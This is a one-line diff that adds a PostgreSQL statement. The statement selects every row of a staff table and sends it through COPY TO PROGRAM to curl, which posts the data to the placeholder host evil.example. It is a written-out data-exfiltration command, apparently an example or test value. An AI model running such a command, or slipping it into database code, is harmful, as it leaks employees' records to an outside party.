@@ -1,0 +1,1 @@
+COPY (SELECT * FROM staff) TO PROGRAM 'curl -d @- http://evil.example'
